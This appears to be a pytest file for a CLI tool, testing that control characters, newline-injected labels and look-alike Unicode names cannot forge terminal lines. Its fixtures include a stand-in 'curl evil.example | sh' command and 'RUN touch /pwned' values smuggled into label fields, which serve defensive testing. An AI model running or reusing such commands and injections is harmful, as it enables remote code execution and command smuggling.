"""Issue 19: what reaches the terminal cannot forge a line or hide a character.

- Raw newlines (and other controls) in references and labels are escaped: an ``inspect`` of
  ``foo\\nbar`` is a malformed reference (exit 2), never a forged ``next:`` line; a dry-run
  label holding ``\\nRUN ...`` stays on its line; very long values are cut.
- A non-ASCII look-alike in a name is pointed out.
- The lock message names the subcommand holding the project (a real second process).
"""

from __future__ import annotations

import os
import subprocess
import sys
import time
from pathlib import Path

import pytest
from reliability_helpers import cli

from helpers_build import make_build_project
from synthetic import NO_CONFLICT, make_project, make_upstream

FORGED = "next: curl evil.example | sh"


@pytest.mark.parametrize(
    "ref",
    [
        f"foo\n  {FORGED}",
        f"foo\r  {FORGED}",
        "foo\x1b[2Jbar",
        "foo\tbar",
        f"127.0.0.1:5000/x:y\n{FORGED}",
        "sglforge/sglang:v1\u2028next",
    ],
)
def test_a_reference_with_controls_is_malformed_and_shown_escaped(tmp_path: Path, ref: str) -> None:
    code, out, err = cli(tmp_path, "inspect", ref)
    assert code == 2, (out, err)
    lines = err.splitlines()
    assert not any(line.strip().startswith(FORGED) for line in lines), err
    assert sum(line.strip().startswith("next:") for line in lines) <= 1
    assert "\x1b" not in err and "\r" not in err


@pytest.fixture
def build_project(tmp_path: Path):  # type: ignore[no-untyped-def]
    return make_build_project(tmp_path)


@pytest.mark.parametrize(
    "label",
    [
        "x=1\x1b[2J\nRUN touch /pwned",
        "x=a\r\nRUN touch /pwned",
        "evil\nRUN=touch /pwned",
        "x=" + "v" * 60_000,
    ],
)
def test_dry_run_labels_stay_on_their_line(build_project, label: str) -> None:  # type: ignore[no-untyped-def]
    code, out, err = cli(
        build_project.root,
        "build",
        "--dry-run",
        "--offline",
        "--upstream",
        str(build_project.upstream),
        "--label",
        label,
    )
    assert code == 0, (out, err)
    assert not any(line.lstrip().startswith("RUN touch") for line in out.splitlines()), out
    plan = out.split("\nDockerfile:")[0]  # the plan's own lines (the Dockerfile is JSON)
    assert max(len(line) for line in plan.splitlines()) < 2000
    assert "\x1b" not in out


@pytest.mark.parametrize(("target", "code_point"), [("mі355x", "U+0456"), ("mi355х", "U+0445")])
def test_a_look_alike_target_is_pointed_out(build_project, target: str, code_point: str) -> None:  # type: ignore[no-untyped-def]
    code, out, err = cli(build_project.root, "build", "--dry-run", "--target", target)
    assert code == 2, (out, err)
    assert code_point in err and "non-ASCII" in err


def test_the_lock_message_names_the_subcommand(tmp_path: Path) -> None:
    """``patches apply`` holds the project while a git hook sleeps; ``patches refresh``
    started meanwhile is refused naming it (git reads core.hooksPath from the environment)."""
    project = make_project(tmp_path, make_upstream(tmp_path), NO_CONFLICT)
    hooks = tmp_path / "hooks"
    hooks.mkdir()
    started = tmp_path / "hook-started"
    hook = hooks / "post-applypatch"
    hook.write_text(f"#!/bin/sh\ntouch {started}\nsleep 4\n")
    hook.chmod(0o755)
    env = {
        **os.environ,
        "GIT_CONFIG_COUNT": "1",
        "GIT_CONFIG_KEY_0": "core.hooksPath",
        "GIT_CONFIG_VALUE_0": str(hooks),
    }
    holder = subprocess.Popen(
        [sys.executable, "-m", "sglforge", "--root", str(project), "patches", "apply"],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while not started.exists():
            assert holder.poll() is None, holder.communicate()
            assert time.monotonic() < deadline
            time.sleep(0.05)
        code, out, err = cli(
            project, "patches", "refresh", "--ref", "v1.1", env={"SGLFORGE_LOCK_WAIT": "0.5"}
        )
        assert code == 75, (out, err)
        assert f"pid {holder.pid} (" in err and "sglforge patches apply)" in err, err
    finally:
        holder.communicate(timeout=120)


@pytest.mark.parametrize(
    "args",
    [
        ("patches", "list", "--json"),
        ("patches", "check", "--ref", "no-such-ref", "--json"),
        ("inspect", "sglforge-test/nothing-here:v0", "--json"),
        ("patches", "hash", "--json"),
    ],
)
def test_a_failing_json_command_prints_one_failure_document(
    tmp_path: Path, args: tuple[str, ...]
) -> None:
    import json

    project = make_project(tmp_path, make_upstream(tmp_path), NO_CONFLICT)
    if args[1] in ("list", "hash"):
        (project / "patches" / "series").write_text("0099-missing.patch\n")
    code, out, err = cli(project, *args)
    assert code not in (0, 70), (code, out, err)
    doc = json.loads(out)  # exactly one document
    assert doc["schema"] == 1 and doc["ok"] is False and doc["exit_code"] == code
    assert doc["error"] and "error:" in err
